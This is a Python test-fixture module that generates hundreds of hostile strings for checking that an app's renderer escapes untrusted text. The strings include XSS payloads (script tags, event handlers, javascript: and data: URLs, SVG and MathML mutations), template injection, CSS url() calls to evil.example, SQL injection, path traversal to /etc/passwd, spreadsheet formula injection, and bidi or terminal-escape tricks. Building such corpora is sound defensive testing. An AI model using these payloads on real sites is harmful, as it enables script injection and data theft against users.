"""Five hundred hostile texts, made systematically: what each family tries, in every form that browsers, Markdown or
templates have been known to fall for. `hit(n)` is what a text tries to have run."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator

from app.rendering.escaping import visible

EVIL = "http://evil.example"


def _markup() -> Iterator[str]:
    yield from (
        "<script>HIT</script>", "<SCRIPT>HIT</SCRIPT>", "<script >HIT</script >", "<script/x>HIT</script>",
        f"<script src={EVIL}/a.js></script>", f"<script src=//{EVIL[7:]}/a.js>",
        "<scr<script>ipt>HIT</scr</script>ipt>",
        "<script\n>HIT</script\n>", "<script\x00>HIT</script>", "<script type=module>HIT</script>", "<script>HIT",
        "<<script>HIT//<</script>", "<script>HIT<!--", "<![CDATA[<script>HIT</script>]]>",
        "<!--><script>HIT</script>-->",
        "<!--<img src='--><img src=x onerror=HIT>'>", "<?xml version='1.0'?><script>HIT</script>",
        "<%<script>HIT</script>%>",
    )  # fmt: skip
    # Out of whatever it may have been put into.
    for tag in (
        "title", "textarea", "style", "script", "noscript", "template", "mark", "div", "p", "button", "iframe", "xmp",
        "select", "svg", "math", "article", "table", "li", "details", "body", "html", "gradio-app",
    ):  # fmt: skip
        yield f"</{tag}><img src=x onerror=HIT>"
    for tag in ("dialog open", "object data=x", "embed src=x",
    "meta http-equiv=refresh content='0;url=javascript:HIT'",
                f"base href={EVIL}/", f"link rel=stylesheet href={EVIL}/a.css", f"link rel=prefetch href={EVIL}/b",
                "form action=javascript:HIT", "input value=mật-khẩu type=password",
                "iframe srcdoc='<script>HIT</script>'",
                f"frameset><frame src={EVIL}/", f"video src={EVIL}/v.mp4 autoplay",
                f"audio src={EVIL}/a.mp3 autoplay",
                f"img src={EVIL}/p.png", f"img srcset={EVIL}/p.png", f"picture><source srcset={EVIL}/p.png",
                "isindex action=javascript:HIT type=image", "portal src=x", "slot name=x", "marquee"):  # fmt: skip
        yield f"<{tag}>"


def _handlers() -> Iterator[str]:
    for element, handler in itertools.product(
        ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "x tabindex=1"),
        ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onmouseover"),
    ):
        yield f"<{element} {handler}=HIT>"
    for quote, rest in itertools.product(
        ('"', "'", "`", "&quot;", '\\"', ""),
        (" onmouseover=HIT x=", " autofocus onfocus=HIT ", "><img src=x onerror=HIT>"),
    ):
        yield f"a{quote}{rest}"
    yield from ("<img src=x\nonerror\n=\nHIT>", "<img src=x onerror='HIT'", "<img/src=x/onerror=HIT>",
    "<IMG SRC=x OnErRoR=HIT>",
                "<img src=x onerror=&#x48;IT>", "<a onclick=HIT>bấm vào đây</a>",
                "<img src=x:x onerror=HIT//")  # fmt: skip


def _addresses() -> Iterator[str]:
    addresses = (
        "javascript:HIT", "JaVaScRiPt:HIT", "java\tscript:HIT", "java\nscript:HIT", "\x01javascript:HIT",
        " javascript:HIT",
        "&#106;avascript:HIT", "javascript&colon;HIT", "data:text/html,<script>HIT</script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "vbscript:HIT", "blob:null/HIT",
        "file:///etc/passwd",
        f"//{EVIL[7:]}/x", f"{EVIL}/x", "javascript://%0aHIT", f"http://127.0.0.1@{EVIL[7:]}/", "view-source:x",
    )  # fmt: skip
    forms = (
        "<a href='{}'>bấm</a>", "[bấm]({})", "![ảnh]({})", "<{}>", "[bấm][1]\n\n[1]: {}",
        "<svg><a href='{}'><text>x</text></a></svg>",
    )  # fmt: skip
    for form, address in itertools.product(forms, addresses):
        yield form.replace("{}", address)


def _drawings() -> Iterator[str]:
    yield from (
        "<svg/onload=HIT>", "<svg><script>HIT</script></svg>", "<svg><script href=data:,HIT />",
        "<svg><animate onbegin=HIT attributeName=x>",
        "<svg><set attributeName=onmouseover to=HIT>",
        "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
        "<svg><style><img src=x onerror=HIT></style>", "<svg><title><img src=x onerror=HIT></title>",
        f"<svg><image href={EVIL}/i.png>",
        f"<svg><use href={EVIL}/u.svg#x>", "<svg><a xlink:href=javascript:HIT><rect width=99 height=99 /></a>",
        "<svg><desc><![CDATA[</desc><script>HIT</script>]]></svg>",
        "<math><mtext><img src=x onerror=HIT></mtext></math>",
        "<math href=javascript:HIT>x</math>", "<math><mi xlink:href='javascript:HIT'>x</mi></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=HIT></annotation-xml></math>",
        "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>",
        "$$\\href{javascript:HIT}{x}$$", "$\\url{javascript:HIT}$", "\\(\\htmlData{x}{<img src=x onerror=HIT>}\\)",
        "```mermaid\ngraph TD; A[<img src=x onerror=HIT>]\n```", "```html\n<img src=x onerror=HIT>\n```",
        "`<img src=x onerror=HIT>`",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    codes = ("HIT", "constructor.constructor('HIT')()", "7*7", "value")
    for form, code in itertools.product(
        ("${%s}", "`${%s}`", "{{%s}}", "{{{%s}}}", "{%% raw %%}{{%s}}{%% endraw %%}", "<%%= %s %%>", "#{%s}",
        "[[%s]]", "@{%s}", "{@html %s}",
         "{#if %s}x{/if}", "{%s}", "$(%s)", "%%{%s}", "{{#each this}}%s{{/each}}"), codes,
    ):  # fmt: skip
        yield form % code
    yield from (
        "<x ng-app ng-init=HIT>", "<x v-html=HIT>", "<x x-data x-init=HIT>", "<x hx-on:load=HIT>", "<x @click=HIT>",
        "<x :onload=HIT>",
        "<x bind:this={HIT}>", "\\x3cscript\\x3eHIT\\x3c/script\\x3e", "\\u003cimg src=x onerror=HIT\\u003e",
        "\\${HIT}", "\\`+HIT+\\`",
        "'+HIT+'", '"+HIT+"', "');HIT;//", "*/HIT/*", "\n//HIT", "</script><script>HIT</script>",
        "<!--#exec cmd=HIT-->",
    )  # fmt: skip


def _markers() -> Iterator[str]:
    for key in ("common.error", "chatbot.clear", "status.queue_position", "không.có"):
        yield f'__i18n__{{"__type__":"translation_metadata","key":"{key}"}}'
        yield f"i18n:{key} $_({key}) t('{key}')"
    yield from (
        '{"__type__":"update","value":"HIT"}', '{"path":"/etc/passwd","meta":{"_type":"gradio.FileData"}}',
        "/gradio_api/file=/etc/passwd",
        "event: complete\ndata: [\"HIT\"]\n\n", "x\r\nSet-Cookie: a=b\r\n\r\n<script>HIT</script>",
        "=HYPERLINK(\"http://evil.example\")",
        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "'; DROP TABLE turns;--", "%' OR 1=1 --", "../../etc/passwd",
        "C:\\Windows\\x", "con.txt/..",
        "%3Cscript%3EHIT%3C/script%3E", "%00%0a%0d", "+ADw-script+AD4-HIT+ADw-/script+AD4-",
        "&lt;script&gt;HIT&lt;/script&gt;",
        "&amp;lt;img src=x onerror=HIT&amp;gt;", "&#60;script&#62;HIT&#60;/script&#62;", "&#x3c;b&#x3e;",
        "&nbsp;&zwj;&rlm;",
        "＜script＞HIT＜/script＞", "‹script›HIT‹/script›", "ſcript <ſcript>HIT</ſcript>", "__proto__", "constructor",
        "toString", "undefined", "null",
    )  # fmt: skip


# Every sign that is not seen or that turns the order around, and what a terminal or a file would act on.
UNSEEN = (
    "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\u206a\u206f"
    "\ufeff\u00ad\u061c\u180e\ufff9\ufffa\ufffb\U000e0001\U000e0041\U000e007f\U0001d173"
)
ACTED_ON = "\x00\x01\x07\x08\x0b\x0c\x0d\x1a\x1b\x1f\x7f\x80\x85\x9b\x9f"


def _signs() -> Iterator[str]:
    for sign in UNSEEN:
        yield f"trước{sign}giữa{sign}sau"
    for sign in ACTED_ON:
        yield f"đầu{sign}cuối"
    yield from (
        "\u202egnp.exe", "giá 100\u202e000 đồng", "a\u2066b\u202ec\u2069d", "\x1b[31mđỏ\x1b[0m",
        "\x1b]8;;http://evil.example\x07bấm\x1b]8;;\x07",
        "\x1b[2J\x1b[H", "dòng\u2028một\u2029hai", "x\u0000<script>HIT</script>", "a\ud800b", "\udc00\ud800",
        "\udfff<img src=x onerror=HIT>",
        "مرحبا بالعالم <b>HIT</b>", "שלום עולם", "ابجد" * 30, "Z̷̢̛͇̩͚a̶͓̫͝l̵̞̓g̸̘̈o̷" * 5, "e" + "\u0301" * 100,
        "Việt" + "\u0323\u0302" * 40,
        "\u115f\u3164\uffa0", "\u2800" * 20, "\u3000rộng\u3000", "👩‍👩‍👧‍👦🏳️‍🌈🇻🇳", "\U0010ffff\ufdd0\uffff",
        "\ue000\uf8ff", "ﷺ" * 20, "𝕳𝖔̉𝖎 𝕭𝖆́𝖔", "W" * 600,
        "dài" * 300, "a" * 300 + "<img src=x onerror=HIT>" + "b" * 300, "-" * 200, "/" * 200 + "x", "<" * 200,
        "&" * 200, "\n\n\nmột\n\n\nhai", "\t\tthụt",
    )  # fmt: skip


def _forged() -> Iterator[str]:
    yield from (
        "[1]", "[99]", "[1][2][3]", "[^1]", "[1]: http://evil.example", "[[1]]", "【1】", "(1)", "¹", "[0] [-1] [1.5]",
        "“giả” [1]", "[1](#hb-panel)",
    )  # fmt: skip
    for element in (
        "button class=hb-chip data-citation=9", "mark class=hb-mark data-citation=9", "div class='hb-answer hb-open'",
        "div class=hb-question",
        "div class=hb-sources-of", "button class=hb-action data-do=undo", "button class=hb-again",
        "button class=hb-suggested",
        "button class=hb-new", "a class=hb-link href=//evil.example", "span class=hb-number",
        "article class=hb-source",
        "div id=hb-panel class=hb-view", "div id=hb-toast class=hb-shown", "div id=hb-said",
        "a class=hb-skip href=//evil.example",
        "div class=hb-copy-of", "details class=hb-more open", "button data-keep=delete", "li data-id=x",
        "span class=hb-agreed", "p class=hb-altered",
        "div class=hb-failed", "div class=hb-cited", "table class=hb-conflict", "button class=hb-tab data-view=x",
        "textarea id=hb-box",
        "div data-testid=bot", "span class=hb-stated", "time class=hb-stated datetime=2020-01-01",
    ):  # fmt: skip
        yield f"</p></div><{element}>giả 9"


def _styles() -> Iterator[str]:
    for rule in (
        "*{display:none!important}", f"@import '{EVIL}/a.css';", f"body{{background:url({EVIL}/b.png)}}",
        "#hb-panel{position:fixed;inset:0}",
        f"@font-face{{font-family:x;src:url({EVIL}/f.woff)}}*{{font-family:x}}",
        "*{animation:x 1s}@keyframes x{from{left:0}}",
        f"input[value^=a]{{background:url({EVIL}/a)}}", ":root{--hb-ink:#fff;--hb-paper:#fff}",
        "*{visibility:hidden}", "*{behavior:url(x.htc)}",
    ):  # fmt: skip
        yield f"<style>{rule}</style>"
        yield f'<p style="{rule.strip("*{}")}">x</p>'
    yield from (
        f"<div style='background:url({EVIL}/c.png)'>x</div>",
        "<div style=position:fixed;inset:0;z-index:9999;background:#fff>che</div>",
        "<div style='width:expression(HIT)'>x</div>", "<font size=7 color=white>trắng</font>", "<big><big><big>x",
        "<center>x", "<blink>x",
        "<plaintext>x", "<bdo dir=rtl>oãđ</bdo>", "<div hidden>ẩn</div>", "<div dir=rtl lang=ar>x</div>",
    )  # fmt: skip


FAMILIES = {
    "markup": _markup, "handlers": _handlers, "addresses": _addresses, "drawings": _drawings, "templates": _templates,
    "markers": _markers, "signs": _signs, "forged": _forged, "styles": _styles,
}  # fmt: skip
MOST_CHARS = 1_000


def payloads() -> list[str]:
    """All of them, each once, with the number that it would have run."""
    made = dict.fromkeys(text for family in FAMILIES.values() for text in family())
    return [text.replace("HIT", f"hit({number})")[:MOST_CHARS] for number, text in enumerate(made)]


def readable(text: str) -> str:
    """The text as it must be read on the page: what is unseen as a dot, blanks counted as one."""
    return squeezed("".join(map(visible, text)))


def squeezed(text: str) -> str:
    return " ".join(re.sub(r"[\s\u2028\u2029]+", " ", text).split())
